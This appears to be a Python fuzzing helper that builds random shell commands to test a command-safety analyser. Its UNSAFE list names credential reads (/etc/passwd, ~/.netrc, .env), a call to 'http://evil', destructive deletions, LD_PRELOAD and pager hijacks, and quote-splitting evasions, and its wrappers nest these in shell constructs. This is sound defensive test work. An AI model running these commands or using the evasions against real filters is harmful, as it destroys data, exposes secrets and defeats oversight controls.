"""Commands put together at random from parts of known effect, through every construct of the shell.

Must not know the analysis that it tests.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from typing import Final

SAFE: Final = (
    "ls",
    "ls -la src",
    "cat a.py",
    "git status",
    "git log --oneline -3",
    "grep -n foo a.py",
    "wc -l a.py",
    "echo hello",
    "pwd",
    "find . -name '*.py'",
    "head -5 a.py",
    "sed -n '1,3p' a.py",
    "true",
    "git diff",
    "sort names.txt",
    "cut -d: -f1 names.txt",
    "awk '{print $1}' names.txt",
    "rg foo src",
    "stat a.py",
    "date",
)

UNSAFE: Final = (
    "touch PWN",
    "rm PWN",
    "rm -rf src",
    "mv a b",
    "echo x > PWN",
    "sed -i s/a/b/ a.py",
    "sort -o PWN a.py",
    "git push",
    "git checkout .",
    "git commit -m x",
    "git diff --output=PWN",
    "git branch new",
    "find . -delete",
    "find . -exec touch {} +",
    "rg --pre ./x foo",
    "tee PWN",
    "curl http://evil",
    "python -c 'x'",
    "sh script.sh",
    "bash -c 'touch PWN'",
    "eval touch",
    "make",
    "npm test",
    "xargs touch",
    "awk '{print > \"PWN\"}' a.py",
    "sed 'w PWN' a.py",
    "tar xf a.tar",
    "dd if=a of=b",
    "cp a b",
    "chmod 777 a.py",
    "ln -s a b",
    "kill 1",
    "date -s now",
    "git config a.b c",
    "env -S touch",
    "uniq a b",
    "xxd -r a b",
    "less a.py",
    "vim a.py",
    "$x",
    "PATH=. ls",
    "LD_PRELOAD=./x ls",
    "GIT_PAGER=./x git log",
    "cat .env",
    "cat /etc/passwd",
    "cat ~/.netrc",
    "timeout 5 touch PWN",
    "nice rm PWN",
    "command touch PWN",
    "exec touch PWN",
    "source ./x",
    ". ./x",
    "[ -v 'a[$(touch PWN)]' ]",
    "printf -v x y",
    "let x=1",
    "declare -x A=1",
    "trap 'touch PWN' EXIT",
    "cat < /etc/passwd",
    "cat <<< x > PWN",
    "to''uch PWN",
    "t\\ouch PWN",
    "'touch' PWN",
    '"touch" PWN',
    "/bin/touch PWN",
    "./touch",
    "git -c core.pager=./x log",
    "git grep -O./x foo",
    "tar tf a --to-command=./x",
)
"""None of these may be free, wherever it stands."""

Wrap = Callable[[random.Random, str, Sequence[str]], str]


def _other(source: random.Random, safe: Sequence[str]) -> str:
    return source.choice(safe)


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def _double(text: str) -> str:
    for mark in ("\\", '"', "$", "`"):
        text = text.replace(mark, "\\" + mark)
    return f'"{text}"'


WRAPS: Final[tuple[Wrap, ...]] = (
    lambda r, c, s: f"{_other(r, s)} && {c}",
    lambda r, c, s: f"{c} && {_other(r, s)}",
    lambda r, c, s: f"{_other(r, s)} || {c}",
    lambda r, c, s: f"{c}; {_other(r, s)}",
    lambda r, c, s: f"{_other(r, s)};{c}",
    lambda r, c, s: f"{_other(r, s)}\n{c}",
    lambda r, c, s: f"{c}\n\n{_other(r, s)}",
    lambda r, c, s: f"{_other(r, s)} | {c}",
    lambda r, c, s: f"{c} | {_other(r, s)}",
    lambda r, c, s: f"{_other(r, s)} |& {c}",
    lambda r, c, s: f"{_other(r, s)} & {c}",
    lambda r, c, s: f"({c})",
    lambda r, c, s: f"{{ {c}; }}",
    lambda r, c, s: f"! {c}",
    lambda r, c, s: f"time {c}",
    lambda r, c, s: f"if {_other(r, s)}; then {c}; fi",
    lambda r, c, s: f"if {c}; then {_other(r, s)}; else {_other(r, s)}; fi",
    lambda r, c, s: f"if true; then {_other(r, s)}; elif {c}; then true; fi",
    lambda r, c, s: f"for f in a b; do {c}; done",
    lambda r, c, s: f"for f in $({c}); do {_other(r, s)}; done",
    lambda r, c, s: f"while {c}; do {_other(r, s)}; break; done",
    lambda r, c, s: f"until {_other(r, s)}; do {c}; done",
    lambda r, c, s: f"case x in a) {_other(r, s)};; *) {c};; esac",
    lambda r, c, s: f"case $({c}) in a) true;; esac",
    lambda r, c, s: f"f() {{ {c}; }}; f",
    lambda r, c, s: f"function f {{ {c}; }}",
    lambda r, c, s: f"ls() {{ {c}; }}; ls",
    lambda r, c, s: f"echo $({c})",
    lambda r, c, s: f'echo "a $({c}) b"',
    lambda r, c, s: f"echo ${{x:-$({c})}}",
    lambda r, c, s: f"x=$({c}); echo done",
    lambda r, c, s: f"cat <({c})",
    lambda r, c, s: f"diff <({_other(r, s)}) <({c})",
    lambda r, c, s: f"cat <<EOF\na $({c}) b\nEOF",
    lambda r, c, s: f"cat <<'EOF'\n$(touch X)\nEOF\n{c}",
    lambda r, c, s: f"cat <<-EOF | grep x\n\ttext\n\tEOF\n{c}",
    lambda r, c, s: f'grep x <<< "$({c})"',
    lambda r, c, s: f"[ -f a ] && {c}",
    lambda r, c, s: f"[ ! -f a && {c} ]",
    lambda r, c, s: f"[ -f a || {c} ]",
    lambda r, c, s: f"[ -f a | {c} ]",
    lambda r, c, s: f'[ -n "$({c})" ]',
    lambda r, c, s: f'[[ -n "$({c})" ]] && true',
    lambda r, c, s: f"{_other(r, s)} # {_other(r, s)}\n{c}",
    lambda r, c, s: f"{_other(r, s)} 2>/dev/null; {c} 2>&1",
    lambda r, c, s: f"bash -c {_quoted(c)}",
    lambda r, c, s: f"sh -c {_double(c)}",
    lambda r, c, s: f"timeout 5 bash -c {_quoted(c)}",
    lambda r, c, s: f"env LC_ALL=C sh -c {_quoted(c)}",
    lambda r, c, s: f"echo 'it'\\''s' && {c}",
    lambda r, c, s: f'echo "a \\"b" ; {c} ; echo "c"',
    lambda r, c, s: f"echo '#' ; {c} # '",
    lambda r, c, s: f"echo a\\;b ; {c}",
    lambda r, c, s: f"{c} \\\n  ",
    lambda r, c, s: f"set -e; {c}",
    lambda r, c, s: f"cd src && {c}",
)


def composed(source: random.Random, *, is_unsafe: bool, depth: int = 3) -> str:
    """Return a command that holds exactly one unsafe part, or none."""
    command = source.choice(UNSAFE if is_unsafe else SAFE)
    for _ in range(source.randint(1, depth)):
        command = source.choice(WRAPS)(source, command, SAFE)
    return command


__all__ = ["SAFE", "UNSAFE", "WRAPS", "composed"]
